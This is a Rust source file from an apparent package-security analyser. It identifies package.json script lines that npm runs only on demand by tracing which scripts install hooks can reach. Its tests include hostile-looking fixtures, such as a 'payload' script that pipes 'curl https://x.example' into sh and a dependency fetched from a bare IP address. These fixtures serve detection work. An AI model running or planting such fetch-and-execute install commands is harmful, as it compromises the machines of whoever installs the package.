//! The `package.json` scripts that npm runs only when someone asks for them (`npm run
//! build`, `npm version`, `npm publish`), never when the package is installed.
//!
//! The manifest is install-time code because its lifecycle scripts are; but a
//! maintainer's `postversion` or `release` script runs on the maintainer's machine,
//! not on the machine that installs the package. Analysers weigh a line that holds
//! only such scripts as they weigh a setup.py `publish` command: as documentation of
//! what the maintainer does, not as behaviour.
//!
//! Reachability is followed only where it can be read: a script counts as run on
//! install when a lifecycle script, or a script it reaches, names it in `npm run x`,
//! `yarn x` or `pnpm run x`, or when it is the
//! `pre`/`post` script of one that runs. Any install-time command that could start a
//! script without naming it (an interpreter, a dependency's bin, `npm pack`, `$x`) or
//! a `binding.gyp` (node-gyp runs it on install) leaves nothing on demand.

use super::command::{MAX_COMMAND_BYTES, simple_commands};
use super::{LIFECYCLE, find_key, node_json};
use crate::common::strip_bom;
use palisade_core::{NPM_INSTALL_SCRIPTS, Package};
use serde_json::{Map, Value};
use std::collections::BTreeSet;

/// 1-based lines of the package's `package.json` that hold scripts npm never runs on
/// install and nothing that it does run. Empty for other ecosystems, for a manifest
/// that cannot be read, and for a manifest written on one line.
pub fn npm_on_demand_script_lines(package: &Package) -> Vec<u32> {
    if package.ecosystem != Some(palisade_core::Ecosystem::Npm) {
        return Vec::new();
    }
    let Some(manifest) = package.manifest() else {
        return Vec::new();
    };
    // With a binding.gyp, npm runs node-gyp on install, and the gyp file can run
    // anything, `npm run x` included.
    let root = manifest.path.strip_suffix("package.json").unwrap_or("");
    if package.file(&format!("{root}binding.gyp")).is_some() {
        return Vec::new();
    }
    on_demand_lines(strip_bom(&manifest.data))
}

fn on_demand_lines(data: &[u8]) -> Vec<u32> {
    let Ok(json) = node_json::parse(data) else {
        return Vec::new();
    };
    let data: &[u8] = &json.bytes;
    let Value::Object(manifest) = &json.value else {
        return Vec::new();
    };
    let Some(Value::Object(scripts)) = manifest.get("scripts") else {
        return Vec::new();
    };
    let (Some(scripts_at), Some(run)) = (find_key(data, "scripts", 0), run_on_install(scripts))
    else {
        return Vec::new();
    };
    // Lines are read only in a manifest laid out one script per line: `"scripts": {`
    // ends its line, and the object closes on a line of its own.
    let after_key = &data[scripts_at + b"\"scripts\"".len()..];
    let key_line = after_key.split(|&b| b == b'\n').next().unwrap_or_default();
    if key_line
        .trim_ascii()
        .strip_prefix(b":")
        .map(<[u8]>::trim_ascii)
        != Some(&b"{"[..])
    {
        return Vec::new();
    }
    let first = 1 + memchr::memchr_iter(b'\n', &data[..scripts_at]).count() as u32;
    let mut out = Vec::new();
    // One pass over the lines after `"scripts": {` until the line that closes it. Only a
    // line holding exactly one `"name": "command"` pair can be on demand, so a line
    // that packs a lifecycle script beside another script always counts as run.
    for (index, line) in data[scripts_at..]
        .split(|&b| b == b'\n')
        .enumerate()
        .skip(1)
    {
        let line = line.trim_ascii();
        if line.starts_with(b"}") {
            break;
        }
        if let Some(name) = single_script(line)
            && scripts.contains_key(&name)
            && !run.contains(name.as_str())
        {
            out.push(first + index as u32);
        }
    }
    out
}

/// The script name of a line that is one `"name": "command"` pair (with or without a
/// trailing comma), read as JSON.
fn single_script(line: &[u8]) -> Option<String> {
    let pair = line.strip_suffix(b",").unwrap_or(line);
    let mut object = Vec::with_capacity(pair.len() + 2);
    object.push(b'{');
    object.extend_from_slice(pair);
    object.push(b'}');
    let Ok(Value::Object(map)) = serde_json::from_slice::<Value>(&object) else {
        return None;
    };
    let mut entries = map.into_iter();
    match (entries.next(), entries.next()) {
        (Some((name, Value::String(_))), None) => Some(name),
        _ => None,
    }
}

/// Names of the scripts that run when the package is installed, directly or through
/// another script; `None` when a command that runs could start scripts unnamed.
fn run_on_install(scripts: &Map<String, Value>) -> Option<BTreeSet<&str>> {
    let (run, opaque) = follow(scripts);
    (!opaque).then_some(run)
}

/// Names of the scripts that run on install as far as their commands name them, even
/// where one of them could also start scripts unnamed.
pub(crate) fn reached_on_install(scripts: &Map<String, Value>) -> BTreeSet<&str> {
    follow(scripts).0
}

/// The scripts reached from the install hooks, and whether a command among them could
/// start scripts it does not name. Each script is read once; globs cost at most
/// [`MAX_GLOBS`] passes over the first [`MAX_GLOB_NAMES`] script names per manifest.
fn follow(scripts: &Map<String, Value>) -> (BTreeSet<&str>, bool) {
    let mut run = BTreeSet::new();
    let mut queue = Vec::new();
    let mut any_opaque = false;
    let mut globs_left = MAX_GLOBS;
    // Events that some installs also run: `prepack`/`postpack` when npm packs a git
    // dependency, `dependencies` after the tree changes.
    let also = ["prepack", "postpack", "dependencies"];
    for hook in LIFECYCLE
        .iter()
        .chain(NPM_INSTALL_SCRIPTS.iter())
        .chain(also.iter())
    {
        reach(scripts, hook, &mut run, &mut queue);
    }
    while let Some(name) = queue.pop() {
        reach(scripts, &format!("pre{name}"), &mut run, &mut queue);
        reach(scripts, &format!("post{name}"), &mut run, &mut queue);
        let Some(command) = scripts.get(name).and_then(Value::as_str) else {
            continue;
        };
        for words in simple_commands(command) {
            // `npm t` and `npm tst` run `test`.
            if let [tool, alias, ..] = words.as_slice()
                && matches!(tool.as_str(), "npm" | "pnpm" | "yarn")
                && matches!(alias.as_str(), "t" | "tst")
            {
                reach(scripts, "test", &mut run, &mut queue);
            }
            for word in &words {
                reach(scripts, word, &mut run, &mut queue);
            }
        }
        // A command that could start scripts unnamed may still name them where words
        // are not read: inside quotes (`sh -c 'npm run x'`), as `npm:x`, as a glob
        // (`run-p 'x:*'`), or past the length read. Every script it mentions runs.
        if opaque(command, scripts) {
            any_opaque = true;
            for token in mentions(command) {
                if token.contains('*') {
                    if globs_left == 0 || token.len() > MAX_GLOB_PATTERN {
                        continue;
                    }
                    globs_left -= 1;
                    let matching: Vec<&String> = scripts
                        .keys()
                        .take(MAX_GLOB_NAMES)
                        .filter(|name| name.len() <= MAX_GLOB_NAME && glob_matches(token, name))
                        .collect();
                    for name in matching {
                        reach(scripts, name, &mut run, &mut queue);
                    }
                } else {
                    reach(scripts, token, &mut run, &mut queue);
                }
            }
        }
    }
    (run, any_opaque)
}

/// Globs matched per manifest, each against the first [`MAX_GLOB_NAMES`] script names
/// no longer than [`MAX_GLOB_NAME`], and only globs up to [`MAX_GLOB_PATTERN`] long:
/// matching one name costs at worst the product of the two lengths.
const MAX_GLOBS: usize = 8;
const MAX_GLOB_NAMES: usize = 512;
const MAX_GLOB_NAME: usize = 128;
const MAX_GLOB_PATTERN: usize = 64;

/// The words of a command as script names could appear in it, quotes and `npm:`
/// prefixes removed.
fn mentions(command: &str) -> impl Iterator<Item = &str> {
    command
        .split(|c: char| !(c.is_alphanumeric() || ":_-.@/*+".contains(c)))
        .map(|token| token.strip_prefix("npm:").unwrap_or(token))
        .filter(|token| !token.is_empty())
}

/// Whether `name` matches `pattern`, where `*` stands for any run of characters.
/// Greedy with one backtrack point: no recursion, and at worst the product of the two
/// lengths.
fn glob_matches(pattern: &str, name: &str) -> bool {
    let (p, n) = (pattern.as_bytes(), name.as_bytes());
    let (mut i, mut j) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while j < n.len() {
        if i < p.len() && p[i] == b'*' {
            star = Some((i, j));
            i += 1;
        } else if i < p.len() && p[i] == n[j] {
            i += 1;
            j += 1;
        } else if let Some((si, sj)) = star {
            i = si + 1;
            j = sj + 1;
            star = Some((si, sj + 1));
        } else {
            return false;
        }
    }
    p[i..].iter().all(|&b| b == b'*')
}

/// Marks the script that `word` names, if any, as run, and queues it when new.
fn reach<'s>(
    scripts: &'s Map<String, Value>,
    word: &str,
    run: &mut BTreeSet<&'s str>,
    queue: &mut Vec<&'s str>,
) {
    if let Some((name, _)) = scripts.get_key_value(word)
        && run.insert(name.as_str())
    {
        queue.push(name.as_str());
    }
}

/// Programs that start no script of the package however they are called: build, lint
/// and housekeeping tools common in lifecycle scripts. Any other program might (a
/// dependency's own bin, `make`, `node-gyp` through `binding.gyp`, `concurrently
/// npm:x`, an interpreter given a file), and then nothing is called on demand.
const INERT: &[&str] = &[
    "husky",
    "echo",
    "true",
    "exit",
    "tsc",
    "rimraf",
    "mkdirp",
    "mkdir",
    "cpy",
    "cp",
    "mv",
    "rm",
    "touch",
    "chmod",
    "eslint",
    "prettier",
    "babel",
    "rollup",
    "webpack",
    "tsup",
    "esbuild",
    "vite",
    "is-ci",
    "git",
    "lerna",
    "nx",
    "turbo",
    "jest",
    "vitest",
    "mocha",
    "patch-package",
    "ngcc",
    "svelte-kit",
    "next",
    "nuxt",
    "nuxi",
    "opencollective",
    "opencollective-postinstall",
];

/// Whether a command that runs on install may start scripts that its words do not name:
/// a program outside [`INERT`] (an interpreter given a file, `sh -c`, a dependency's
/// bin, `npm pack`, which runs `prepack`), text built at run time (`$x`, backticks), or
/// a command too long to read whole. Reachability then cannot be trusted. Only `npm
/// run x`, `yarn x`, `pnpm run x` and the inert programs are followed.
fn opaque(command: &str, scripts: &Map<String, Value>) -> bool {
    if command.len() > MAX_COMMAND_BYTES || command.contains(['$', '`']) {
        return true;
    }
    simple_commands(command).iter().any(|words| {
        let Some(first) = words.first() else {
            return false;
        };
        match (first.as_str(), words.get(1).map(String::as_str)) {
            ("npm" | "pnpm" | "yarn", Some("run" | "run-script")) => false,
            ("yarn" | "pnpm", Some(script)) => !scripts.contains_key(script),
            (program, _) => !INERT.contains(&program),
        }
    })
}

#[cfg(test)]
mod tests {
    use super::on_demand_lines;

    fn lines(json: &str) -> Vec<u32> {
        on_demand_lines(json.as_bytes())
    }

    #[test]
    fn release_scripts_are_on_demand_and_lifecycle_scripts_are_not() {
        let json = r#"{
  "name": "x",
  "scripts": {
    "build": "rollup -c",
    "fix_dist": "node -e 'console.log(1)' > dist/package.json",
    "postversion": "npm run fix_dist && git push",
    "prepare": "husky"
  }
}"#;
        assert_eq!(lines(json), [4, 5, 6]);
    }

    #[test]
    fn scripts_reached_from_an_install_hook_run_on_install() {
        let json = r#"{
  "name": "x",
  "scripts": {
    "postinstall": "npm run setup",
    "presetup": "echo",
    "setup": "yarn fetch && npm run build:native",
    "fetch": "echo fetching",
    "build:native": "tsc -p native",
    "test": "jest"
  }
}"#;
        assert_eq!(lines(json), [9]);
    }

    #[test]
    fn a_line_holding_an_install_script_is_never_on_demand() {
        let json = r#"{"name": "x",
  "scripts": {"test": "jest", "postinstall": "node i.js"}}"#;
        assert!(lines(json).is_empty());
        assert!(lines(r#"{"name": "x", "scripts": {"test": "jest"}}"#).is_empty());
        assert!(lines("not json").is_empty());
    }

    #[test]
    fn install_commands_that_may_run_unnamed_scripts_leave_nothing_on_demand() {
        for postinstall in [
            "node i.js",
            "sh -c 'npm run payload'",
            "npm pack",
            "npm run \\\"$npm_package_config_x\\\"",
            "yarn install",
            "CI=1 npm pack",
            "env node i.js",
            "concurrently npm:payload",
            "run-s pay*load",
            "make",
        ] {
            let json = format!(
                "{{\n  \"name\": \"x\",\n  \"scripts\": {{\n    \"postinstall\": \"{postinstall}\",\n    \"payload\": \"curl https://x.example | sh\"\n  }}\n}}"
            );
            assert!(lines(&json).is_empty(), "{postinstall}");
        }
    }

    #[test]
    fn scripts_mentioned_by_an_opaque_hook_are_reached() {
        use super::{follow, glob_matches};
        use serde_json::{Map, Value};
        let padding = "x".repeat(9000);
        for postinstall in [
            "sh -c 'npm run setup'".to_string(),
            "concurrently \"npm:setup\"".to_string(),
            "run-p 'set*'".to_string(),
            format!("echo {padding} && npm run setup"),
        ] {
            let mut scripts = Map::new();
            scripts.insert("postinstall".into(), Value::String(postinstall.clone()));
            scripts.insert("setup".into(), Value::String("curl x".into()));
            scripts.insert("build".into(), Value::String("tsc".into()));
            let (run, opaque) = follow(&scripts);
            assert!(opaque, "{postinstall}");
            assert!(
                run.contains("setup"),
                "{}",
                &postinstall[..30.min(postinstall.len())]
            );
            assert!(!run.contains("build"));
        }
        let mut scripts = Map::new();
        scripts.insert("postinstall".into(), Value::String("npm t".into()));
        scripts.insert("test".into(), Value::String("curl x".into()));
        assert!(follow(&scripts).0.contains("test"));
        assert!(glob_matches("a*c*", "abxcd") && !glob_matches("a*c", "abxcd"));
        assert!(glob_matches("*", "") && !glob_matches("a", ""));
    }

    #[test]
    fn only_lines_inside_the_scripts_object_count() {
        // `scripts` on one line, and a dependency named like a script below it.
        let json = "{\n  \"name\": \"x\",\n  \"scripts\": {\"test\": \"jest\", \"postinstall\": \"husky\"},\n  \"dependencies\": {\n    \"test\": \"https://203.0.113.5/p.tgz\"\n  }\n}";
        assert!(lines(json).is_empty());
    }

    #[test]
    fn a_long_chain_of_scripts_is_followed_to_its_end() {
        // 2,000 scripts, each running the next: all reached from postinstall.
        let scripts: Vec<String> = (0..2000)
            .map(|i| format!("    \"s{i}\": \"npm run s{}\"", i + 1))
            .collect();
        let json = format!(
            "{{\n  \"name\": \"x\",\n  \"scripts\": {{\n    \"postinstall\": \"npm run s0\",\n{},\n    \"test\": \"jest\"\n  }}\n}}",
            scripts.join(",\n")
        );
        assert_eq!(lines(&json), [2005]);
        // Broken at the middle, the second half and `test` are on demand.
        let json = json.replace("npm run s1000\"", "echo done\"");
        assert_eq!(lines(&json).len(), 1001);
    }
}
